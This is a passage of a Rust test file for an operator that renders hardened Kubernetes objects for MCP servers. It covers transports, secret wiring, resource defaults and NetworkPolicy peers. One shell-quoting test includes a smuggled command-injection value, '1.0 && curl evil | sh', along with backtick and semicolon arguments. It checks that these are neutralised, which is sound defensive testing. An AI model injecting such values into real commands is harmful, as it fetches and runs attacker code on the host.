@@ -1,0 +1,1101 @@
+//! The pure render, one behaviour per test, each in both directions: exact objects, exact
+//! error messages.
+
+use pretty_assertions::assert_eq;
+use serde_json::{Value, json};
+
+use super::*;
+use crate::mcpserver::crd::MCPServer;
+use crate::policy::{Policy, parse_str};
+use crate::runtime_class::StaticRuntimeClasses;
+
+const UID: &str = "0b6e3f52-5d7a-4c1e-9a43-1f2d3c4b5a69";
+
+/// The default policy's hardening, for test policies that change something else.
+const MUTATE: &str = "  mutate:
+    podSecurityContext:
+      runAsNonRoot: true
+      runAsUser: 1000
+      runAsGroup: 1000
+      fsGroup: 1000
+      seccompProfile: {type: RuntimeDefault}
+    containerSecurityContext:
+      allowPrivilegeEscalation: false
+      runAsNonRoot: true
+      runAsUser: 1000
+      runAsGroup: 1000
+      capabilities: {drop: [ALL]}
+      seccompProfile: {type: RuntimeDefault}
+    resources:
+      requests: {memory: 400Mi}
+    imagePullPolicy: always
+    automountServiceAccountToken: remove
+";
+
+/// A policy named `test` enforcing on `mcp`, with `spec_tail` (YAML at spec indentation).
+fn policy(spec_tail: &str) -> Policy {
+    let text = format!(
+        "apiVersion: mcpguard.dev/v1alpha1
+kind: MCPPolicy
+metadata: {{name: test}}
+spec:
+  namespaces: [mcp]
+  podSecurity: {{level: restricted, version: latest}}
+{spec_tail}"
+    );
+    parse_str(&text, "<test policy>").unwrap_or_else(|e| panic!("{e}\n{text}"))
+}
+
+fn default_policy() -> Policy {
+    Policy::embedded_default().expect("embedded policy")
+}
+
+fn server_named(name: &str, spec: Value) -> MCPServer {
+    serde_json::from_value(json!({
+        "apiVersion": "mcpguard.dev/v1alpha1",
+        "kind": "MCPServer",
+        "metadata": {"name": name, "namespace": "mcp", "uid": UID},
+        "spec": spec,
+    }))
+    .expect("a valid MCPServer")
+}
+
+fn server(spec: Value) -> MCPServer {
+    server_named("x", spec)
+}
+
+fn render_with(
+    policy: &Policy,
+    server: &MCPServer,
+    secrets: &[SecretVersion],
+) -> Result<Rendered, RenderError> {
+    let classes = StaticRuntimeClasses::default();
+    let context = Context {
+        policy,
+        runtime_classes: &classes,
+        now: time::macros::datetime!(2025-06-01 0:00 UTC),
+    };
+    render(server, context, secrets)
+}
+
+fn rendered(policy: &Policy, server: &MCPServer) -> Rendered {
+    render_with(policy, server, &[]).unwrap_or_else(|e| panic!("render failed: {e:?}"))
+}
+
+fn render_default(spec: Value) -> Rendered {
+    rendered(&default_policy(), &server(spec))
+}
+
+fn render_error(policy: &Policy, spec: Value) -> RenderError {
+    match render_with(policy, &server(spec), &[]) {
+        Ok(r) => panic!("expected an error, rendered {:#}", r.deployment),
+        Err(e) => e,
+    }
+}
+
+fn container(rendered: &Rendered) -> &Value {
+    let containers = rendered.deployment["spec"]["template"]["spec"]["containers"]
+        .as_array()
+        .expect("containers");
+    assert_eq!(containers.len(), 1, "{containers:#?}");
+    &containers[0]
+}
+
+fn pod_spec(rendered: &Rendered) -> &Value {
+    &rendered.deployment["spec"]["template"]["spec"]
+}
+
+fn secret(name: &str, uid: &str, resource_version: &str, keys: &[&str]) -> SecretVersion {
+    SecretVersion {
+        name: name.into(),
+        uid: uid.into(),
+        resource_version: resource_version.into(),
+        keys: keys.iter().map(|k| (*k).to_owned()).collect(),
+    }
+}
+
+fn labels() -> Value {
+    json!({"app.kubernetes.io/name": "x", "app.kubernetes.io/managed-by": "mcpguard"})
+}
+
+fn metadata() -> Value {
+    json!({
+        "name": "x",
+        "namespace": "mcp",
+        "labels": labels(),
+        "ownerReferences": [{
+            "apiVersion": "mcpguard.dev/v1alpha1",
+            "kind": "MCPServer",
+            "name": "x",
+            "uid": UID,
+            "controller": true,
+            "blockOwnerDeletion": true,
+        }],
+    })
+}
+
+fn hardened_container_security_context() -> Value {
+    json!({
+        "allowPrivilegeEscalation": false,
+        "runAsNonRoot": true,
+        "runAsUser": 1000,
+        "runAsGroup": 1000,
+        "capabilities": {"drop": ["ALL"]},
+        "seccompProfile": {"type": "RuntimeDefault"},
+    })
+}
+
+fn hardened_pod_security_context() -> Value {
+    json!({
+        "runAsNonRoot": true,
+        "runAsUser": 1000,
+        "runAsGroup": 1000,
+        "fsGroup": 1000,
+        "seccompProfile": {"type": "RuntimeDefault"},
+    })
+}
+
+// ---------------------------------------------------------------------------------------
+// Transports and runtimes
+
+#[test]
+fn an_image_with_streamable_http_runs_its_own_command_and_args() {
+    let r = render_default(json!({
+        "image": "ghcr.io/acme/mcp:1.0",
+        "transport": "streamable-http",
+        "command": ["/srv/mcp"],
+        "args": ["serve", "--listen", ":8080"],
+    }));
+    let c = container(&r);
+    assert_eq!(c["image"], "ghcr.io/acme/mcp:1.0");
+    assert_eq!(c["command"], json!(["/srv/mcp"]));
+    assert_eq!(c["args"], json!(["serve", "--listen", ":8080"]));
+    assert_eq!(
+        c["ports"],
+        json!([{"name": "http", "containerPort": 8080, "protocol": "TCP"}])
+    );
+}
+
+#[test]
+fn an_image_with_sse_runs_its_own_command_and_args() {
+    let r = render_default(json!({
+        "image": "ghcr.io/acme/mcp:1.0",
+        "transport": "sse",
+        "port": 3001,
+        "command": ["node", "server.js"],
+        "args": ["--sse"],
+    }));
+    let c = container(&r);
+    assert_eq!(c["image"], "ghcr.io/acme/mcp:1.0");
+    assert_eq!(c["command"], json!(["node", "server.js"]));
+    assert_eq!(c["args"], json!(["--sse"]));
+    assert_eq!(
+        c["ports"],
+        json!([{"name": "http", "containerPort": 3001, "protocol": "TCP"}])
+    );
+}
+
+#[test]
+fn an_image_without_command_or_args_keeps_the_images_entrypoint() {
+    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
+    let c = container(&r);
+    assert!(c.get("command").is_none(), "{c:#}");
+    assert!(c.get("args").is_none(), "{c:#}");
+}
+
+#[test]
+fn an_image_with_stdio_is_an_invalid_spec() {
+    assert_eq!(
+        render_error(
+            &default_policy(),
+            json!({"image": "ghcr.io/acme/mcp:1.0", "transport": "stdio"})
+        ),
+        RenderError::Invalid(
+            "an image with transport stdio cannot be reached over the network: use package (which runs behind an HTTP bridge) or an HTTP transport".into()
+        )
+    );
+}
+
+#[test]
+fn an_npx_package_runs_behind_supergateway_with_streamable_http() {
+    let r = render_default(json!({
+        "package": {"runtime": "npx", "name": "@scope/pkg", "version": "1.2.3"},
+        "transport": "streamable-http",
+        "args": ["--root", "/data dir", "it's", "$HOME"],
+    }));
+    let c = container(&r);
+    assert_eq!(c["image"], "docker.io/library/node:22-bookworm-slim");
+    assert_eq!(c["command"], json!(["npx"]));
+    assert_eq!(
+        c["args"],
+        json!([
+            "-y",
+            "supergateway@4.0.0",
+            "--stdio",
+            r"npx -y @scope/pkg@1.2.3 --root '/data dir' 'it'\''s' '$HOME'",
+            "--outputTransport",
+            "streamableHttp",
+            "--port",
+            "8080",
+        ])
+    );
+}
+
+#[test]
+fn an_npx_package_with_sse_bridges_to_sse_on_its_port() {
+    let r = render_default(json!({
+        "package": {"runtime": "npx", "name": "@scope/pkg", "version": "1.2.3"},
+        "transport": "sse",
+        "port": 3000,
+    }));
+    let c = container(&r);
+    assert_eq!(
+        c["args"],
+        json!([
+            "-y",
+            "supergateway@4.0.0",
+            "--stdio",
+            "npx -y @scope/pkg@1.2.3",
+            "--outputTransport",
+            "sse",
+            "--port",
+            "3000",
+        ])
+    );
+    assert_eq!(
+        c["ports"],
+        json!([{"name": "http", "containerPort": 3000, "protocol": "TCP"}])
+    );
+}
+
+#[test]
+fn a_stdio_package_is_bridged_to_streamable_http_and_an_unversioned_one_runs_latest() {
+    let r = render_default(json!({
+        "package": {"runtime": "npx", "name": "@scope/pkg"},
+        "transport": "stdio",
+    }));
+    assert_eq!(
+        container(&r)["args"],
+        json!([
+            "-y",
+            "supergateway@4.0.0",
+            "--stdio",
+            "npx -y @scope/pkg",
+            "--outputTransport",
+            "streamableHttp",
+            "--port",
+            "8080",
+        ])
+    );
+}
+
+#[test]
+fn the_npx_bridge_command_quotes_every_word_the_shell_would_split_or_expand() {
+    let r = render_default(json!({
+        "package": {"runtime": "npx", "name": "pkg", "version": "1.0 && curl evil | sh"},
+        "args": ["", "a;b", "`id`", "plain-arg_1.2/x=y:z+w,v@u"],
+    }));
+    assert_eq!(
+        container(&r)["args"][3],
+        "npx -y 'pkg@1.0 && curl evil | sh' '' 'a;b' '`id`' plain-arg_1.2/x=y:z+w,v@u"
+    );
+}
+
+#[test]
+fn a_uvx_package_runs_behind_mcp_proxy() {
+    let r = render_default(json!({
+        "package": {"runtime": "uvx", "name": "pkg", "version": "1.2"},
+        "port": 9000,
+    }));
+    let c = container(&r);
+    assert_eq!(c["image"], "ghcr.io/astral-sh/uv:python3.12-bookworm-slim");
+    assert_eq!(c["command"], json!(["uvx"]));
+    // Without server args a `--` before the command is optional; it is not what this test is about.
+    let args: Vec<&str> = c["args"]
+        .as_array()
+        .expect("args")
+        .iter()
+        .filter_map(Value::as_str)
+        .filter(|a| *a != "--")
+        .collect();
+    assert_eq!(
+        args,
+        [
+            "mcp-proxy@0.13.0",
+            "--host=0.0.0.0",
+            "--port=9000",
+            "--pass-environment",
+            "uvx",
+            "pkg==1.2",
+        ]
+    );
+}
+
+/// mcp-proxy parses its options anywhere on its command line (argparse): server args that
+/// look like options must come after a `--`, as mcp-proxy's README requires, or mcp-proxy
+/// takes `--port 9000` as its own port (or exits on an option it does not know).
+#[test]
+fn uvx_server_args_are_separated_from_mcp_proxys_own_options() {
+    let r = render_default(json!({
+        "package": {"runtime": "uvx", "name": "pkg", "version": "1.2"},
+        "args": ["--port", "9000", "--allowed-dir=/data"],
+    }));
+    assert_eq!(
+        container(&r)["args"],
+        json!([
+            "mcp-proxy@0.13.0",
+            "--host=0.0.0.0",
+            "--port=8080",
+            "--pass-environment",
+            "--",
+            "uvx",
+            "pkg==1.2",
+            "--port",
+            "9000",
+            "--allowed-dir=/data",
+        ])
+    );
+}
+
+#[test]
+fn runtime_images_come_from_the_policy() {
+    let custom = policy(&format!(
+        "{MUTATE}    packageRuntimeImages: {{npx: registry.example.com/node:22, uvx: registry.example.com/uv:0.8}}\n"
+    ));
+    let npx = server(json!({"package": {"runtime": "npx", "name": "pkg"}}));
+    let uvx = server(json!({"package": {"runtime": "uvx", "name": "pkg"}}));
+    assert_eq!(
+        container(&rendered(&custom, &npx))["image"],
+        "registry.example.com/node:22"
+    );
+    assert_eq!(
+        container(&rendered(&custom, &uvx))["image"],
+        "registry.example.com/uv:0.8"
+    );
+    // A policy that names no images gets the defaults.
+    let unset = policy(MUTATE);
+    assert_eq!(
+        container(&rendered(&unset, &npx))["image"],
+        "docker.io/library/node:22-bookworm-slim"
+    );
+    assert_eq!(
+        container(&rendered(&unset, &uvx))["image"],
+        "ghcr.io/astral-sh/uv:python3.12-bookworm-slim"
+    );
+}
+
+#[test]
+fn packages_get_a_writable_home_and_cache_on_a_tmp_emptydir() {
+    for runtime in ["npx", "uvx"] {
+        let r = render_default(json!({
+            "package": {"runtime": runtime, "name": "pkg"},
+            "env": [{"name": "LOG_LEVEL", "value": "info"}],
+        }));
+        let c = container(&r);
+        assert_eq!(
+            c["env"],
+            json!([
+                {"name": "LOG_LEVEL", "value": "info"},
+                {"name": "HOME", "value": "/tmp"},
+                {"name": "NPM_CONFIG_CACHE", "value": "/tmp/.npm"},
+                {"name": "UV_CACHE_DIR", "value": "/tmp/.uv-cache"},
+            ]),
+            "{runtime}"
+        );
+        assert_eq!(
+            c["volumeMounts"],
+            json!([{"name": "tmp", "mountPath": "/tmp"}]),
+            "{runtime}"
+        );
+        assert_eq!(
+            pod_spec(&r)["volumes"],
+            json!([{"name": "tmp", "emptyDir": {}}]),
+            "{runtime}"
+        );
+    }
+}
+
+#[test]
+fn images_get_no_home_override_and_no_tmp_volume() {
+    let r = render_default(json!({
+        "image": "ghcr.io/acme/mcp:1.0",
+        "env": [{"name": "LOG_LEVEL", "value": "info"}],
+    }));
+    let c = container(&r);
+    assert_eq!(c["env"], json!([{"name": "LOG_LEVEL", "value": "info"}]));
+    assert!(c.get("volumeMounts").is_none(), "{c:#}");
+    assert!(pod_spec(&r).get("volumes").is_none(), "{:#}", pod_spec(&r));
+    let bare = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
+    assert!(container(&bare).get("env").is_none(), "{bare:#?}");
+}
+
+/// Two `files` entries naming the same Secret mount two volumes at one path, which the API
+/// server refuses ("must be unique"): the render must refuse the spec (or mount it once)
+/// rather than hand the reconciler a Deployment that can never be applied.
+#[test]
+fn the_same_secret_listed_twice_in_files_is_mounted_once() {
+    let result = render_with(
+        &default_policy(),
+        &server(json!({
+            "image": "ghcr.io/acme/mcp:1.0",
+            "files": [{"secretRef": {"name": "ca"}}, {"secretRef": {"name": "ca"}}],
+        })),
+        &[],
+    );
+    if let Ok(r) = result {
+        let paths: Vec<&str> = container(&r)["volumeMounts"]
+            .as_array()
+            .expect("volumeMounts")
+            .iter()
+            .filter_map(|m| m["mountPath"].as_str())
+            .collect();
+        let mut unique = paths.clone();
+        unique.sort();
+        unique.dedup();
+        assert_eq!(paths.len(), unique.len(), "duplicate mountPath: {paths:?}");
+    }
+}
+
+#[test]
+fn image_and_package_together_or_neither_are_invalid() {
+    assert_eq!(
+        render_error(
+            &default_policy(),
+            json!({"image": "ghcr.io/acme/mcp:1.0", "package": {"runtime": "npx", "name": "pkg"}})
+        ),
+        RenderError::Invalid("set either image or package, not both".into())
+    );
+    assert_eq!(
+        render_error(&default_policy(), json!({"port": 8080})),
+        RenderError::Invalid("set image or package".into())
+    );
+}
+
+// ---------------------------------------------------------------------------------------
+// Secrets
+
+fn secret_server() -> MCPServer {
+    server(json!({
+        "image": "ghcr.io/acme/mcp:1.0",
+        "env": [{"name": "LOG_LEVEL", "value": "debug"}],
+        "secretEnv": [
+            {"name": "GITHUB_TOKEN", "secretKeyRef": {"name": "github", "key": "token"}},
+            {"name": "GITHUB_APP_KEY", "secretKeyRef": {"name": "github", "key": "app-key"}},
+        ],
+        "envFrom": [{"secretRef": {"name": "openai"}}],
+        "files": [{"secretRef": {"name": "kubeconfig"}}, {"secretRef": {"name": "ca-bundle"}}],
+    }))
+}
+
+fn secret_server_secrets() -> Vec<SecretVersion> {
+    vec![
+        secret("github", "uid-github", "101", &["token", "app-key"]),
+        secret("openai", "uid-openai", "202", &["OPENAI_API_KEY"]),
+        secret("kubeconfig", "uid-kubeconfig", "303", &["config"]),
+        secret("ca-bundle", "uid-ca", "404", &["ca.crt"]),
+    ]
+}
+
+#[test]
+fn secrets_are_wired_as_secret_key_refs_env_from_and_read_only_file_volumes() {
+    let secrets = secret_server_secrets();
+    let r = render_with(&default_policy(), &secret_server(), &secrets).expect("renders");
+    let c = container(&r);
+    assert_eq!(
+        c["env"],
+        json!([
+            {"name": "LOG_LEVEL", "value": "debug"},
+            {"name": "GITHUB_TOKEN", "valueFrom": {"secretKeyRef": {"name": "github", "key": "token"}}},
+            {"name": "GITHUB_APP_KEY", "valueFrom": {"secretKeyRef": {"name": "github", "key": "app-key"}}},
+        ])
+    );
+    assert_eq!(c["envFrom"], json!([{"secretRef": {"name": "openai"}}]));
+    assert_eq!(
+        c["volumeMounts"],
+        json!([
+            {"name": "files-0", "mountPath": "/files/kubeconfig", "readOnly": true},
+            {"name": "files-1", "mountPath": "/files/ca-bundle", "readOnly": true},
+        ])
+    );
+    assert_eq!(
+        pod_spec(&r)["volumes"],
+        json!([
+            {"name": "files-0", "secret": {"secretName": "kubeconfig"}},
+            {"name": "files-1", "secret": {"secretName": "ca-bundle"}},
+        ])
+    );
+    assert_eq!(
+        r.deployment["spec"]["template"]["metadata"]["annotations"],
+        json!({"mcpguard.dev/secrets-hash": secrets_hash(&secrets)})
+    );
+}
+
+#[test]
+fn a_server_without_secrets_has_no_envfrom_and_no_secrets_hash() {
+    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
+    assert!(container(&r).get("envFrom").is_none());
+    let template_metadata = &r.deployment["spec"]["template"]["metadata"];
+    assert!(
+        template_metadata
+            .pointer("/annotations/mcpguard.dev~1secrets-hash")
+            .is_none(),
+        "{template_metadata:#}"
+    );
+}
+
+#[test]
+fn referenced_secrets_lists_secret_env_then_env_from_then_files() {
+    assert_eq!(
+        referenced_secrets(&secret_server()),
+        vec![
+            ("github".to_owned(), Some("token".to_owned())),
+            ("github".to_owned(), Some("app-key".to_owned())),
+            ("openai".to_owned(), None),
+            ("kubeconfig".to_owned(), None),
+            ("ca-bundle".to_owned(), None),
+        ]
+    );
+    assert_eq!(
+        referenced_secrets(&server(json!({"image": "ghcr.io/acme/mcp:1.0"}))),
+        vec![]
+    );
+}
+
+#[test]
+fn missing_secrets_names_each_missing_secret_once_and_each_missing_key() {
+    let server = secret_server();
+    assert_eq!(
+        missing_secrets(&server, &[]),
+        vec![
+            r#"Secret "github" not found"#.to_owned(),
+            r#"Secret "openai" not found"#.to_owned(),
+            r#"Secret "kubeconfig" not found"#.to_owned(),
+            r#"Secret "ca-bundle" not found"#.to_owned(),
+        ]
+    );
+    let partial = vec![
+        secret("github", "uid-github", "101", &["token"]),
+        secret("openai", "uid-openai", "202", &[]),
+        secret("ca-bundle", "uid-ca", "404", &[]),
+    ];
+    assert_eq!(
+        missing_secrets(&server, &partial),
+        vec![
+            r#"Secret "github" has no key "app-key""#.to_owned(),
+            r#"Secret "kubeconfig" not found"#.to_owned(),
+        ]
+    );
+    assert_eq!(
+        missing_secrets(&server, &secret_server_secrets()),
+        Vec::<String>::new()
+    );
+}
+
+#[test]
+fn secrets_hash_is_32_hex_chars_stable_under_reordering() {
+    let secrets = secret_server_secrets();
+    let hash = secrets_hash(&secrets);
+    assert_eq!(hash.len(), 32, "{hash}");
+    assert!(
+        hash.chars()
+            .all(|c| c.is_ascii_digit() || ('a'..='f').contains(&c)),
+        "{hash}"
+    );
+    let mut reversed = secrets.clone();
+    reversed.reverse();
+    assert_eq!(secrets_hash(&reversed), hash);
+    let mut rotated = secrets.clone();
+    rotated.rotate_left(1);
+    assert_eq!(secrets_hash(&rotated), hash);
+}
+
+#[test]
+fn secrets_hash_changes_when_a_uid_or_resource_version_changes() {
+    let secrets = secret_server_secrets();
+    let hash = secrets_hash(&secrets);
+    let mut new_uid = secrets.clone();
+    new_uid[1].uid = "uid-openai-recreated".into();
+    let mut new_version = secrets.clone();
+    new_version[2].resource_version = "304".into();
+    let mut fewer = secrets.clone();
+    fewer.pop();
+    let hashes = [
+        hash.clone(),
+        secrets_hash(&new_uid),
+        secrets_hash(&new_version),
+        secrets_hash(&fewer),
+    ];
+    for (i, a) in hashes.iter().enumerate() {
+        for b in &hashes[i + 1..] {
+            assert_ne!(a, b);
+        }
+    }
+    // Keys are not part of it: the pods read the data, the hash only rolls them.
+    let mut new_keys = secrets.clone();
+    new_keys[0].keys.push("extra".into());
+    assert_eq!(secrets_hash(&new_keys), hash);
+    // And a changed Secret changes the pod template.
+    let before = render_with(&default_policy(), &secret_server(), &secrets).expect("renders");
+    let after = render_with(&default_policy(), &secret_server(), &new_version).expect("renders");
+    assert_ne!(
+        before.deployment["spec"]["template"],
+        after.deployment["spec"]["template"]
+    );
+    assert_eq!(
+        after.deployment["spec"]["template"]["metadata"]["annotations"]["mcpguard.dev/secrets-hash"],
+        secrets_hash(&new_version)
+    );
+}
+
+// ---------------------------------------------------------------------------------------
+// Replicas, resources, port
+
+#[test]
+fn replicas_are_kept_and_negative_is_invalid() {
+    for replicas in [0, 3] {
+        let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0", "replicas": replicas}));
+        assert_eq!(r.deployment["spec"]["replicas"], replicas);
+    }
+    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
+    assert_eq!(r.deployment["spec"]["replicas"], 1);
+    assert_eq!(
+        render_error(
+            &default_policy(),
+            json!({"image": "ghcr.io/acme/mcp:1.0", "replicas": -1})
+        ),
+        RenderError::Invalid("replicas cannot be negative".into())
+    );
+}
+
+#[test]
+fn resources_are_kept_and_the_policy_default_fills_what_is_absent() {
+    let r = render_default(json!({
+        "image": "ghcr.io/acme/mcp:1.0",
+        "resources": {"requests": {"cpu": "100m"}, "limits": {"cpu": "1"}},
+    }));
+    assert_eq!(
+        container(&r)["resources"],
+        json!({"requests": {"cpu": "100m", "memory": "400Mi"}, "limits": {"cpu": "1"}})
+    );
+    let explicit = render_default(json!({
+        "image": "ghcr.io/acme/mcp:1.0",
+        "resources": {"requests": {"cpu": "250m", "memory": "128Mi"}, "limits": {"memory": "256Mi"}},
+    }));
+    assert_eq!(
+        container(&explicit)["resources"],
+        json!({"requests": {"cpu": "250m", "memory": "128Mi"}, "limits": {"memory": "256Mi"}})
+    );
+    let absent = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
+    assert_eq!(
+        container(&absent)["resources"],
+        json!({"requests": {"memory": "400Mi"}})
+    );
+}
+
+#[test]
+fn a_port_outside_1_to_65535_is_invalid() {
+    for port in [0, -1, 65536] {
+        assert_eq!(
+            render_error(
+                &default_policy(),
+                json!({"image": "ghcr.io/acme/mcp:1.0", "port": port})
+            ),
+            RenderError::Invalid(format!("port {port} is not a TCP port"))
+        );
+    }
+    for port in [1, 65535] {
+        let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0", "port": port}));
+        assert_eq!(container(&r)["ports"][0]["containerPort"], port);
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// The whole objects
+
+#[test]
+fn the_pod_template_is_hardened_by_the_default_policy() {
+    let r = render_default(json!({"package": {"runtime": "npx", "name": "pkg"}}));
+    let spec = pod_spec(&r);
+    assert_eq!(spec["securityContext"], hardened_pod_security_context());
+    assert_eq!(spec["automountServiceAccountToken"], false);
+    let c = container(&r);
+    assert_eq!(c["securityContext"], hardened_container_security_context());
+    assert_eq!(c["imagePullPolicy"], "Always");
+    assert_eq!(c["name"], "mcp");
+}
+
+#[test]
+fn a_policy_runtime_class_is_set_on_the_pod_template() {
+    let gvisor = policy(&format!(
+        "{MUTATE}    runtimeClassName: gvisor\n  validate:\n    requireRuntimeClass: true\n"
+    ));
+    let r = rendered(&gvisor, &server(json!({"image": "ghcr.io/acme/mcp:1.0"})));
+    assert_eq!(pod_spec(&r)["runtimeClassName"], "gvisor");
+    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
+    assert!(pod_spec(&r).get("runtimeClassName").is_none());
+}
+
+#[test]
+fn the_deployment_of_an_image_server_is_exactly_this() {
+    let r = render_default(json!({
+        "image": "ghcr.io/acme/mcp:1.0",
+        "args": ["--http"],
+        "env": [{"name": "LOG_LEVEL", "value": "info"}],
+        "replicas": 2,
+    }));
+    assert_eq!(
+        r.deployment,
+        json!({
+            "apiVersion": "apps/v1",
+            "kind": "Deployment",
+            "metadata": metadata(),
+            "spec": {
+                "replicas": 2,
+                "selector": {"matchLabels": labels()},
+                "template": {
+                    "metadata": {"labels": labels(), "annotations": {}},
+                    "spec": {
+                        "automountServiceAccountToken": false,
+                        "securityContext": hardened_pod_security_context(),
+                        "containers": [{
+                            "name": "mcp",
+                            "image": "ghcr.io/acme/mcp:1.0",
+                            "imagePullPolicy": "Always",
+                            "args": ["--http"],
+                            "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
+                            "env": [{"name": "LOG_LEVEL", "value": "info"}],
+                            "readinessProbe": {
+                                "tcpSocket": {"port": "http"},
+                                "periodSeconds": 5,
+                                "failureThreshold": 3,
+                            },
+                            "resources": {"requests": {"memory": "400Mi"}},
+                            "securityContext": hardened_container_security_context(),
+                        }],
+                    },
+                },
+            },
+        })
+    );
+    assert_eq!(r.warnings, Vec::<String>::new());
+    assert_eq!(r.url, "http://x.mcp.svc.cluster.local");
+}
+
+#[test]
+fn the_service_is_exactly_this() {
+    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0", "port": 3000}));
+    assert_eq!(
+        r.service,
+        json!({
+            "apiVersion": "v1",
+            "kind": "Service",
+            "metadata": metadata(),
+            "spec": {
+                "type": "ClusterIP",
+                "selector": labels(),
+                "ports": [{"name": "http", "port": 80, "targetPort": "http", "protocol": "TCP"}],
+            },
+        })
+    );
+}
+
+#[test]
+fn service_url_names_the_server_in_its_namespace() {
+    let mut other = server_named("github", json!({"image": "ghcr.io/acme/mcp:1.0"}));
+    assert_eq!(service_url(&other), "http://github.mcp.svc.cluster.local");
+    other.metadata.namespace = Some("tools".into());
+    assert_eq!(service_url(&other), "http://github.tools.svc.cluster.local");
+}
+
+// ---------------------------------------------------------------------------------------
+// NetworkPolicy
+
+fn default_dns_egress() -> Value {
+    json!({
+        "to": [{
+            "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "kube-system"}},
+            "podSelector": {"matchLabels": {"k8s-app": "kube-dns"}},
+        }],
+        "ports": [{"protocol": "UDP", "port": 53}, {"protocol": "TCP", "port": 53}],
+    })
+}
+
+fn internet_egress() -> Value {
+    json!({"to": [
+        {"ipBlock": {"cidr": "0.0.0.0/0", "except": [
+            "10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8",
+            "169.254.0.0/16", "100.64.0.0/10", "224.0.0.0/4", "240.0.0.0/4",
+        ]}},
+        {"ipBlock": {"cidr": "::/0", "except": [
+            "fc00::/7", "fe80::/10", "::1/128", "ff00::/8", "64:ff9b::/96", "64:ff9b:1::/48",
+        ]}},
+    ]})
+}
+
+fn clients(namespaces: &[&str]) -> Value {
+    json!({"namespaceSelector": {"matchExpressions": [
+        {"key": "kubernetes.io/metadata.name", "operator": "In", "values": namespaces}
+    ]}})
+}
+
+fn network_policy_of(r: &Rendered) -> &Value {
+    r.network_policy.as_ref().expect("a NetworkPolicy")
+}
+
+#[test]
+fn the_default_network_policy_is_exactly_this() {
+    let r = render_default(json!({"image": "ghcr.io/acme/mcp:1.0", "port": 3000}));
+    assert_eq!(
+        network_policy_of(&r),
+        &json!({
+            "apiVersion": "networking.k8s.io/v1",
+            "kind": "NetworkPolicy",
+            "metadata": metadata(),
+            "spec": {
+                "podSelector": {"matchLabels": labels()},
+                "policyTypes": ["Ingress", "Egress"],
+                "ingress": [{
+                    "from": [clients(&["mcp-clients"])],
+                    "ports": [{"protocol": "TCP", "port": 3000}],
+                }],
+                "egress": [default_dns_egress(), internet_egress()],
+            },
+        })
+    );
+}
+
+#[test]
+fn custom_client_namespaces_dns_and_gateway_peers_replace_the_defaults() {
+    let custom = policy(&format!(
+        "{MUTATE}  network:
+    clientNamespaces: [agents, ide]
+    dnsPeers: [{{ipBlock: {{cidr: 169.254.20.10/32}}}}]
+    gatewayPeers:
+      - namespaceSelector: {{matchLabels: {{kubernetes.io/metadata.name: egress}}}}
+        podSelector: {{matchLabels: {{app: squid}}}}
+"
+    ));
+    let r = rendered(&custom, &server(json!({"image": "ghcr.io/acme/mcp:1.0"})));
+    let spec = &network_policy_of(&r)["spec"];
+    assert_eq!(
+        spec["ingress"],
+        json!([{"from": [clients(&["agents", "ide"])], "ports": [{"protocol": "TCP", "port": 8080}]}])
+    );
+    assert_eq!(
+        spec["egress"],
+        json!([
+            {
+                "to": [{"ipBlock": {"cidr": "169.254.20.10/32"}}],
+                "ports": [{"protocol": "UDP", "port": 53}, {"protocol": "TCP", "port": 53}],
+            },
+            {"to": [{
+                "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "egress"}},
+                "podSelector": {"matchLabels": {"app": "squid"}},
+            }]},
+            internet_egress(),
+        ])
+    );
+}
+
+fn extras_policy() -> Policy {
+    policy(&format!(
+        "{MUTATE}  network:
+    allowedExtraPeers:
+      - namespaceSelector: {{matchLabels: {{kubernetes.io/metadata.name: monitoring}}}}
+      - ipBlock: {{cidr: 10.20.0.0/16}}
+"
+    ))
+}
+
+#[test]
+fn extra_peers_listed_in_the_policy_are_admitted() {
+    let r = rendered(
+        &extras_policy(),
+        &server(json!({
+            "image": "ghcr.io/acme/mcp:1.0",
+            "network": {
+                "ingressFrom": [{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}}],
+                "egressTo": [{"ipBlock": {"cidr": "10.20.0.0/16"}}],
+            },
+        })),
+    );
+    let spec = &network_policy_of(&r)["spec"];
+    assert_eq!(
+        spec["ingress"],
+        json!([{
+            "from": [
+                clients(&["mcp-clients"]),
+                {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}},
+            ],
+            "ports": [{"protocol": "TCP", "port": 8080}],
+        }])
+    );
+    assert_eq!(
+        spec["egress"],
+        json!([
+            default_dns_egress(),
+            internet_egress(),
+            {"to": [{"ipBlock": {"cidr": "10.20.0.0/16"}}]},
+        ])
+    );
+}
+
+#[test]
+fn extra_peers_not_listed_in_the_policy_are_refused() {
+    let metadata_endpoint = render_error(
+        &extras_policy(),
+        json!({
+            "image": "ghcr.io/acme/mcp:1.0",
+            "network": {"egressTo": [{"ipBlock": {"cidr": "169.254.169.254/32"}}]},
+        }),
+    );
+    assert_eq!(
+        metadata_endpoint,
+        RenderError::PeerNotAllowed(
+            r#"network.egressTo peer {"ipBlock":{"cidr":"169.254.169.254/32"}} is not among the policy's spec.network.allowedExtraPeers"#.into()
+        )
+    );
+    let everyone = render_error(
+        &extras_policy(),
+        json!({
+            "image": "ghcr.io/acme/mcp:1.0",
+            "network": {"ingressFrom": [{"namespaceSelector": {}}]},
+        }),
+    );
+    assert_eq!(
+        everyone,
+        RenderError::PeerNotAllowed(
+            r#"network.ingressFrom peer {"namespaceSelector":{}} is not among the policy's spec.network.allowedExtraPeers"#.into()
+        )
+    );
+    // The default policy allows no extras at all.
+    assert_eq!(
+        render_error(
+            &default_policy(),
+            json!({
+                "image": "ghcr.io/acme/mcp:1.0",
+                "network": {"egressTo": [{"ipBlock": {"cidr": "10.20.0.0/16"}}]},
